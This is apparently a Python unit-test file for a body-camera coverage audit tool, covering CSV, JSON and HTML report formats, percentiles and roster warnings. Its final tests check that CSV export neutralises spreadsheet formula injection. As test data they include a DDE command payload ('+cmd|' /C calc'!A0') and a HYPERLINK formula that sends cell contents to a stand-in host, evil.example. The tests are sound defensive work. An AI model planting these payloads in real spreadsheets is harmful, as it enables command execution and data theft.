"""Metrics and report formats: the CSV columns and number formats, JSON, the terminal table's
order, the HTML report's content (self-contained, escaped), percentiles, the [audit] rules."""

from __future__ import annotations

import csv
import io
import json
import random
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from bwc.audit.config import rules_from
from bwc.audit.engine import AuditResult, run_audit
from bwc.audit.html import render_html
from bwc.audit.metrics import check_scope, kth_smallest, p95
from bwc.audit.model import Case, Clip, Officer, Period, Rules, to_ms
from bwc.audit.report import (
    OFFICER_COLUMNS,
    build_report,
    spreadsheet_safe,
    table_rows,
    to_csv,
    to_json,
)
from bwc.errors import HomeError, UsageError

pytestmark = pytest.mark.unit

MIN = 60_000
H = 60 * MIN


def t(text: str) -> int:
    return to_ms(datetime.fromisoformat(text).replace(tzinfo=ZoneInfo("Asia/Shanghai")))


def city() -> AuditResult:
    s = t("2026-10-15T09:30:00")
    officers = [
        Officer("110023", "张三", "城东中队", "东城区", True),
        Officer("110024", "李四", "城东中队", "东城区", True),
        Officer("110025", "<b>王五</b>", "城西中队", "西城区", False),
        Officer("110026", "赵六", "城西中队", "西城区", True),
    ]
    cases = [
        Case("C1", "占道经营", "城东中队", s, s + 16 * MIN, "人民路", ("110023", "110024")),
        Case("C2", "违章搭建", "城西中队", s + H, s + H + 10 * MIN, "解放路", ("110025",)),
        Case("C3", "x", "城东中队", s + 2 * H, s + 2 * H + 10 * MIN, "", ("110023", "999")),
    ]
    clips = [
        Clip("110023", "D1", s, s + 16 * MIN, s + 17 * MIN),
        Clip("110024", "D2", s + 4 * MIN, s + 16 * MIN, s + 40 * H),  # late, partial
        Clip("110023", "D1", s + 2 * H, s + 2 * H + 5 * MIN, s + 3 * H),
        Clip(None, None, s, s + 30 * MIN, s + H),
    ]
    return run_audit(
        Period(2026, 10, "Asia/Shanghai"),
        Rules(),
        officers=officers,
        cases=cases,
        clips=clips,
        assignments=[],
        clocks=[],
        explanations={("C3", "110023")},
        keep_clips=True,
    )


def test_csv_by_officer_columns_and_formats() -> None:
    rep = build_report(city())
    rows = list(csv.reader(io.StringIO(to_csv(rep))))
    assert tuple(rows[0]) == OFFICER_COLUMNS
    header = "officer_id,name,unit,county,cases,full,partial,none,explained,full_rate,"
    header += "mean_coverage,uploads,on_time,on_time_rate"
    assert ",".join(rows[0]) == header
    by_id = {r[0]: r for r in rows[1:]}
    assert list(by_id) == sorted(by_id)
    assert by_id["110023"] == [
        "110023", "张三", "城东中队", "东城区", "2", "1", "1", "0", "1",
        "0.5000", "0.7500", "2", "2", "1.0000",
    ]  # fmt: skip
    assert by_id["110024"][4:] == ["1", "0", "1", "0", "0", "0.0000", "0.7500", "1", "0", "0.0000"]
    assert by_id["110026"][4:] == ["0", "0", "0", "0", "0", "", "", "0", "0", ""]
    assert by_id["999"][1:4] == ["", "", ""]  # on a case, not in the roster


def test_csv_by_unit_and_county() -> None:
    rep = build_report(city())
    units = list(csv.DictReader(io.StringIO(to_csv(rep, "unit"))))
    east = next(u for u in units if u["unit"] == "城东中队")
    assert (east["county"], east["cases"], east["full"], east["full_rate"]) == (
        "东城区",
        "3",
        "1",
        "0.3333",
    )
    assert (east["frontline"], east["equipped"], east["equipage_rate"]) == ("2", "2", "1.0000")
    counties = list(csv.DictReader(io.StringIO(to_csv(rep, "county"))))
    assert [c["county"] for c in counties] == ["东城区", "西城区"]  # no "" county (issue 15.12)
    west = counties[1]
    assert (west["officers"], west["frontline"], west["equipped"]) == ("2", "1", "0")
    assert west["officers_without_footage"] == "1"


def test_officers_not_in_roster_are_a_warning_not_a_unit() -> None:
    """issue 15.12: officer 999 (on case C3, not in the roster) was charted as a county and a
    unit named "(not in roster)", the blue "best" bar; now a warning with the id and case
    count, no county or unit row anywhere, marked in the ranking, still in the totals."""
    rep = build_report(city())
    assert [m.key for m in rep.counties] == ["东城区", "西城区"]
    assert [m.key for m in rep.units] == ["城东中队", "城西中队"]
    assert "" not in [r["unit"] for r in csv.DictReader(io.StringIO(to_csv(rep, "unit")))]
    data = to_json(rep)
    assert [c["county"] for c in data["counties"]] == ["东城区", "西城区"]
    assert [u["unit"] for u in data["units"]] == ["城东中队", "城西中队"]
    assert data["summary"]["cases"] == 5  # 999's pair still counts in the whole
    (w,) = [w for w in rep.warnings if "not in the roster" in w]
    assert "999 (1 case)" in w and "no unit or county" in w
    _h, rows = table_rows(rep, "officer")
    (row,) = [r for r in rows if r[0] == "999"]
    assert row[2] == "(not in roster)"
    for lang, mark in (("en", "(not in roster)"), ("zh", "（不在名册）")):
        html = render_html(rep, lang=lang)  # type: ignore[arg-type]
        charts = html[html.index('id="counties"') : html.index('id="ranking"')]
        assert mark not in charts  # not a bar
        ranking = html[html.index('id="ranking"') : html.index('id="gaps"')]
        assert f'<td class="t">999</td><td class="t"></td><td class="t nir">{mark}</td>' in ranking
        # the warning, in the report's language
        assert ("999 (1" if lang == "en" else "999（1") in html[html.index("<ul>") :]


def test_an_unknown_unit_or_county_is_a_usage_error_naming_the_known_ones() -> None:
    """issue 15.16: `--unit 城北中队` gave an all-zero report; now exit 2, naming the roster's
    units (or counties), with a close match first."""
    roster = [
        Officer("1", "a", "城东中队", "东城区", True),
        Officer("2", "b", "城西中队", "西城区", True),
        Officer("3", "c", "城西中队", "西城区", True),
    ]
    check_scope(roster, None, None)
    check_scope(roster, "城西中队", "西城区")
    with pytest.raises(UsageError) as e:
        check_scope(roster, "城北中队", None)
    assert e.value.exit_code == 2
    assert "unknown unit '城北中队'" in str(e.value) and "城东中队, 城西中队" in str(e.value)
    with pytest.raises(UsageError) as e:
        check_scope(roster, None, "东城")
    assert "unknown county '东城'" in str(e.value) and "did you mean '东城区'" in str(e.value)
    with pytest.raises(UsageError) as e:
        check_scope(roster, "城西中队", "东城区")
    assert "no officer of unit '城西中队' is in county '东城区'" in str(e.value)
    assert "西城区" in str(e.value)
    with pytest.raises(UsageError) as e:
        check_scope([], "城西中队", None)
    assert "no roster" in str(e.value)


def test_json_report() -> None:
    data = to_json(build_report(city()))
    json.dumps(data)  # serialisable
    assert data["month"] == "2026-10" and data["timezone"] == "Asia/Shanghai"
    assert data["period"] == {"start": "2026-09-30T16:00:00Z", "end": "2026-10-31T16:00:00Z"}
    assert data["rules"] == {
        "max_gap_s": 5.0,
        "start_grace_s": 60.0,
        "end_grace_s": 60.0,
        "upload_limit_h": 24.0,
    }
    assert data["summary"]["cases"] == 5
    assert [(p["case_id"], p["officer_id"], p["verdict"]) for p in data["non_full"]] == [
        ("C2", "110025", "none"),
        ("C3", "999", "none"),
        ("C3", "110023", "partial"),
        ("C1", "110024", "partial"),
    ]
    assert data["unattributed"] == {"clips": 1, "footage_h": 0.5}
    assert data["officers_not_in_roster"] == ["999"]
    assert any("not in the roster" in w for w in data["warnings"])


def test_filters_and_worst_first_table() -> None:
    rep = build_report(city(), unit="城东中队")
    assert [a.officer_id for a in rep.chosen] == ["110023", "110024"]
    assert rep.summary.cases == 3
    header, rows = table_rows(rep, "officer")
    assert header[0] == "officer_id"
    assert [r[0] for r in rows] == ["110024", "110023"]  # 0 % full before 50 %
    rep = build_report(city(), county="西城区")
    _header, rows = table_rows(rep, "unit")
    assert [r[0] for r in rows] == ["城西中队"]
    rep = build_report(city(), unit="城北中队")
    assert rep.chosen == [] and "no officer has unit '城北中队'" in rep.warnings[0]


def test_html_report_is_self_contained_and_escaped() -> None:
    for lang, title in (("zh", "执法全过程记录审计"), ("en", "coverage audit")):
        text = render_html(build_report(city()), lang=lang)  # type: ignore[arg-type]
        assert title in text
        assert "http://" not in text and "https://" not in text and "<script" not in text
        assert "<b>王五</b>" not in text and "&lt;b&gt;王五&lt;/b&gt;" in text
        for section in ('id="summary"', 'id="counties"', 'id="units"', 'id="ranking"'):
            assert section in text
        assert text.count('<div class="tl">') == 4  # one timeline per non-full pair
    few = render_html(build_report(city()), lang="en", max_timelines=1)
    assert few.count('<div class="tl">') == 1 and "showing the 1 worst of 4" in few


def test_percentiles() -> None:
    rnd = random.Random(7)
    for _ in range(200):
        lists = [
            sorted(rnd.randint(-50, 10**6) for _ in range(rnd.randint(0, 30))) for _ in range(5)
        ]
        flat = sorted(x for lst in lists for x in lst)
        if not flat:
            assert p95(lists) is None
            continue
        k = rnd.randint(1, len(flat))
        assert kth_smallest(lists, k) == flat[k - 1]
        assert p95(lists) == flat[-(-95 * len(flat) // 100) - 1]
    assert p95([list(range(1, 101))]) == 95
    assert p95([[5]]) == 5


def test_rules_from_config() -> None:
    r = rules_from({"max_gap_s": 2, "start_grace_s": 30.5, "upload_limit_h": 12})
    assert (r.max_gap_ms, r.start_grace_ms, r.end_grace_ms, r.upload_limit_ms) == (
        2000,
        30500,
        60000,
        12 * H,
    )
    with pytest.raises(HomeError) as e:
        rules_from({"max_gap_s": -1, "grace": 3, "end_grace_s": True})
    msg = str(e.value)
    assert "audit.max_gap_s" in msg and "audit.grace: unknown" in msg and "end_grace_s" in msg


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("+0.5", "+0.5"),
        ("0.5", "0.5"),
        ("-1e3", "-1e3"),
        ("张三", "张三"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_spreadsheet_safe(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_csv_cells_never_run_as_formulas() -> None:
    """Regression (issue 12): a name, unit or county starting with = reached the CSV as is."""
    s = t("2026-10-15T09:30:00")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    result = run_audit(
        Period(2026, 10, "Asia/Shanghai"),
        Rules(),
        officers=[Officer("@1", evil, "+unit", "-county", True)],
        cases=[Case("C1", "x", "+unit", s, s + 10 * 60_000, "", ("@1",))],
        clips=[],
        assignments=[],
        clocks=[],
        explanations=set(),
    )
    rep = build_report(result)
    for by in ("officer", "unit", "county"):
        for row in csv.reader(io.StringIO(to_csv(rep, by))):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (by, row)
    rows = list(csv.reader(io.StringIO(to_csv(rep))))
    assert rows[1][:4] == ["'@1", "'" + evil, "'+unit", "'-county"]
    assert rows[1][4] == "1"  # numbers stay numbers
